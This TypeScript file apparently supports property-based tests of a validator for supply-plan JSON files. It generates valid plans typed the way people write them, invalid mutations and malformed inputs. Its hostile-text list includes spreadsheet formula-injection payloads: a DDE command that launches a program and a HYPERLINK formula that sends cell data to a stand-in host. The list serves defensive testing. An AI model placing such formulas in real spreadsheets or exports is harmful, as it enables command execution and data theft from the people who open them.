/**
 * fast-check arbitraries for the hardening properties: valid plans whose text is hostile (formula-like, quotes,
 * newlines, emoji, full-width, 32,767 characters), written the way people type them (numbers as "1,200" or "１２００",
 * items and uses in Japanese or English), and mutations that make a valid plan invalid at a known path.
 */
import fc from 'fast-check';
import { CHECKLIST_IDS, ITEMS, USES } from '../../src/policy';
import { typedDecimal, valueOf } from '../engine/arbitraries';

/** Text that must come back exactly as typed, never run as a formula. */
export const HOSTILE_TEXTS = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+A1',
  '-2+3',
  '@SUM(A1:A9)',
  '=',
  "'quoted",
  '"double"',
  '<b>&amp;</b>',
  '改行\nあり',
  'タブ\tあり',
  '😀🏭',
  'ＣＮＣ　全角',
  '  spaced  ',
  '#REF!',
  'TRUE',
  '0001',
  '2024-04-01',
  '1e5',
] as const;

export const hostileText = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 8, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constant('長'.repeat(32_767)) },
);

/** A non-blank text (scenario names and items may not be blank). */
const nonBlank = hostileText.map((s) => (s.trim() === '' ? `x${s}` : s));

const itemName = fc.oneof(
  fc.constantFrom(...ITEMS.flatMap((i) => [i.id, i.ja, i.en])),
  fc.constantFrom('鋳物', 'spindle', 'ＣＮＣ', 'ｃｎｃ', 'Ball Screw', 'ボール ねじ'),
  nonBlank,
);
const useName = fc.constantFrom(...USES.flatMap((u) => [u.id, u.ja, u.en]));
const year = fc.integer({ min: 2021, max: 2040 });

export interface TypedNumber {
  value: number;
  /** As written in the file: a JSON number, or text a person typed. */
  written: number | string;
}

/** Full-width digits and separators (what a Japanese IME types). */
function fullWidth(s: string): string {
  return s.replace(/[0-9.,]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
}

function grouped(n: number): string {
  const [int, frac] = String(n).split('.');
  return int.replace(/\B(?=(\d{3})+(?!\d))/g, ',') + (frac ? `.${frac}` : '');
}

/** A number people type, and one way of writing it. */
export const typedNumber = (min = 0): fc.Arbitrary<TypedNumber> =>
  fc.tuple(typedDecimal(min), fc.constantFrom('number', 'text', 'grouped', 'fullwidth', 'spaced') as fc.Arbitrary<string>).map(([d, how]) => {
    const value = valueOf(d);
    const plain = String(value);
    if (/e/i.test(plain)) return { value, written: value };
    const written = how === 'number' ? value : how === 'text' ? plain : how === 'grouped' ? grouped(value) : how === 'fullwidth' ? fullWidth(grouped(value)) : ` ${plain} `;
    return { value, written };
  });

export interface PlanPair {
  /** The plan as a program writes it (canonical numbers). */
  plain: Record<string, unknown>;
  /** The same plan as a person types it (numbers as text, full-width digits …). */
  typed: Record<string, unknown>;
}

const lineArb = fc.record({
  scenario: fc.option(nonBlank, { nil: undefined }),
  item: itemName,
  use: useName,
  baseline: typedNumber(1),
  unit: fc.option(hostileText, { nil: undefined }),
  capacity: fc.dictionary(year.map(String), typedNumber(), { maxKeys: 8 }),
  targetYears: fc.option(fc.uniqueArray(fc.integer({ min: 2022, max: 2034 }), { maxLength: 3 }), { nil: undefined }),
});

const isoDate = fc.date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2034-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));

const activityArb = fc
  .record({
    kind: fc.constantFrom('capacity', 'rnd'),
    a: isoDate,
    b: isoDate,
    long: fc.boolean(),
    quantitativeTargets: fc.option(fc.array(hostileText, { maxLength: 2 }), { nil: undefined }),
    followOn: fc.option(fc.boolean(), { nil: undefined }),
  })
  .map(({ a, b, long, ...rest }) => {
    const [start, later] = a <= b ? [a, b] : [b, a];
    // Half the activities run ten years or more, so the period rule is met as often as not.
    const end = long ? `${Number(start.slice(0, 4)) + 10}${start.slice(4, 8)}${start.slice(5, 10) === '02-29' ? '28' : start.slice(8)}` : later;
    const out: Record<string, unknown> = { kind: rest.kind, start, end };
    if (rest.quantitativeTargets !== undefined) out.quantitativeTargets = rest.quantitativeTargets;
    if (rest.followOn !== undefined) out.followOn = rest.followOn;
    return out;
  });

const checklistArb = fc
  .subarray([...CHECKLIST_IDS])
  .chain((ids) => fc.tuple(...ids.map(() => fc.record({ confirmed: fc.boolean(), evidence: hostileText }))).map((es) => ids.map((id, i) => [id, es[i]] as const)));

const overseasArb = fc.record({
  base: hostileText,
  item: hostileText,
  capacityBefore: typedNumber(),
  capacityAfter: typedNumber(),
  share: fc.integer({ min: 0, max: 100 }),
  risk: fc.boolean(),
  metiRequested: fc.boolean(),
});

/** A valid plan, as a program and as a person would write it. */
export const planPair: fc.Arbitrary<PlanPair> = fc
  .record({
    name: hostileText,
    joint: fc.boolean(),
    yearBasis: fc.constantFrom('calendar', 'fiscal'),
    activity: activityArb,
    lines: fc.array(lineArb, { maxLength: 5 }),
    checklist: checklistArb,
    overseas: fc.array(overseasArb, { maxLength: 2 }),
    regional: fc.option(fc.record({ contribution: hostileText, jobs: fc.integer({ min: 0, max: 500 }) }), { nil: undefined }),
  })
  .map((p) => {
    const build = (typed: boolean): Record<string, unknown> => {
      const n = (x: TypedNumber) => (typed ? x.written : x.value);
      const plan: Record<string, unknown> = {
        format: 'supply-plan/1',
        applicant: { name: p.name, joint: p.joint },
        yearBasis: p.yearBasis,
        activity: p.activity,
        lines: p.lines.map((l) => {
          const line: Record<string, unknown> = {
            item: l.item,
            use: l.use,
            baseline2021: n(l.baseline),
            capacity: Object.fromEntries(Object.entries(l.capacity).map(([y, v]) => [y, n(v)])),
          };
          if (l.scenario !== undefined) line.scenario = l.scenario;
          if (l.unit !== undefined) line.unit = l.unit;
          if (l.targetYears !== undefined) line.targetYears = l.targetYears;
          return line;
        }),
        checklist: Object.fromEntries(p.checklist),
        overseas: p.overseas.map((o) => ({
          base: o.base,
          item: o.item,
          capacityBefore: n(o.capacityBefore),
          capacityAfter: n(o.capacityAfter),
          localConsumptionShare: typed && o.share % 2 ? String(o.share / 100) : o.share / 100,
          risk: o.risk,
          metiRequested: o.metiRequested,
        })),
      };
      if (p.regional) plan.regional = { contribution: p.regional.contribution, jobsCreated: p.regional.jobs };
      return plan;
    };
    return { plain: build(false), typed: build(true) };
  });

// ---------------------------------------------------------------------------------------------------------------
// Mutations: one field of a valid plan made invalid, at a path the error must name

const BAD_NUMBERS: unknown[] = [null, true, [], {}, 'NaN', 'Infinity', '-Infinity', '1,2,3', '１２００円', -1, 1e16, 'x', '', '1e999'];
const BAD_TEXTS: unknown[] = [null, 1, true, [], {}, 'x'.repeat(32_768), 'a\u0001b', 'bad\uFFFE'];
const BAD_DATES: unknown[] = ['2024-02-30', '2024/04/01', '', 20240401, null, '令和6年4月1日'];
const BAD_BOOLS: unknown[] = ['yes', 1, null, 'true'];

export interface Mutation {
  /** The path as the CLI prints it (`lines[0].baseline2021`). */
  path: string;
  apply(plan: Record<string, unknown>): void;
}

type Obj = Record<string, unknown>;
const lines = (p: Obj) => p.lines as Obj[];

/** Every field a mutation can break, given the plan (which lines, checklist entries and bases it has). */
function targets(plan: Obj): { path: string; get: (p: Obj) => Obj; key: string; bad: unknown[] }[] {
  const out: { path: string; get: (p: Obj) => Obj; key: string; bad: unknown[] }[] = [
    { path: 'format', get: (p) => p, key: 'format', bad: ['supply-plan/2', null, 1, undefined] },
    { path: 'activity', get: (p) => p, key: 'activity', bad: [undefined, null, 'capacity', []] },
    { path: 'lines', get: (p) => p, key: 'lines', bad: [undefined, null, {}, 'all'] },
    { path: 'applicant.name', get: (p) => p.applicant as Obj, key: 'name', bad: BAD_TEXTS },
    { path: 'applicant.joint', get: (p) => p.applicant as Obj, key: 'joint', bad: BAD_BOOLS },
    { path: 'yearBasis', get: (p) => p, key: 'yearBasis', bad: ['monthly', 1, null] },
    { path: 'activity.kind', get: (p) => p.activity as Obj, key: 'kind', bad: ['build', null, undefined] },
    { path: 'activity.start', get: (p) => p.activity as Obj, key: 'start', bad: [...BAD_DATES, undefined] },
    { path: 'activity.end', get: (p) => p.activity as Obj, key: 'end', bad: [...BAD_DATES, undefined, '1999-01-01'] },
    { path: 'activity.typo', get: (p) => p.activity as Obj, key: 'typo', bad: [1] },
  ];
  lines(plan).forEach((l, i) => {
    const at = (k: string, bad: unknown[]) => out.push({ path: `lines[${i}].${k}`, get: (p) => lines(p)[i], key: k, bad });
    at('item', [...BAD_TEXTS, '', '   ', undefined]);
    at('use', ['boats', '', null, 1, undefined]);
    at('baseline2021', [...BAD_NUMBERS, -1, 1e-12, undefined]); // 0 is a new entrant (v2), not bad input
    at('unit', BAD_TEXTS);
    at('scenario', [...BAD_TEXTS, '', '  ']);
    at('targetYears', ['all', null, {}]);
    at('capacity', [null, 'many', [], undefined]);
    at('targetYear', [[2025]]);
    const years = Object.keys(l.capacity as Obj);
    if (years.length) out.push({ path: `lines[${i}].capacity.${years[0]}`, get: (p) => lines(p)[i].capacity as Obj, key: years[0], bad: BAD_NUMBERS });
    out.push({ path: `lines[${i}].capacity.2020`, get: (p) => lines(p)[i].capacity as Obj, key: '2020', bad: [100] });
    out.push({ path: `lines[${i}].capacity.20255`, get: (p) => lines(p)[i].capacity as Obj, key: '20255', bad: [100] });
  });
  for (const id of Object.keys(plan.checklist as Obj)) {
    out.push({ path: `checklist.${id}.confirmed`, get: (p) => (p.checklist as Obj)[id] as Obj, key: 'confirmed', bad: BAD_BOOLS });
    out.push({ path: `checklist.${id}.evidence`, get: (p) => (p.checklist as Obj)[id] as Obj, key: 'evidence', bad: BAD_TEXTS });
  }
  (plan.overseas as Obj[]).forEach((_, i) => {
    const at = (k: string, bad: unknown[]) => out.push({ path: `overseas[${i}].${k}`, get: (p) => (p.overseas as Obj[])[i], key: k, bad });
    at('capacityBefore', [...BAD_NUMBERS, undefined]);
    at('localConsumptionShare', [...BAD_NUMBERS, 1.5, '85%']);
    at('base', BAD_TEXTS);
    at('risk', BAD_BOOLS);
  });
  return out;
}

/** A mutation of a valid plan: one field set to something invalid. */
export function mutationOf(plan: Obj): fc.Arbitrary<Mutation> {
  const ts = targets(plan);
  return fc.integer({ min: 0, max: ts.length - 1 }).chain((k) =>
    fc.constantFrom(...ts[k].bad).map((bad) => ({
      path: ts[k].path,
      apply(p: Obj) {
        const o = ts[k].get(p);
        if (bad === undefined) delete o[ts[k].key];
        else o[ts[k].key] = bad;
      },
    })),
  );
}

/** Plan file text that is not JSON, or JSON that is not a plan object. */
export const BROKEN_TEXTS: string[] = [
  '',
  ' ',
  '\uFEFF',
  'null',
  '[]',
  '"plan"',
  '42',
  '{',
  '{"format": "supply-plan/1", "lines": [',
  '{"format": "supply-plan/1", "baseline2021": NaN}',
  '{"format": "supply-plan/1", "x": Infinity}',
  "{'format': 'supply-plan/1'}",
  '{"format": "supply-plan/1",}',
  '\u0000\u0001\u0002',
  '['.repeat(100_000) + ']'.repeat(100_000),
  '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000),
  '<?xml version="1.0"?><plan/>',
  'PK\u0003\u0004 not json',
];
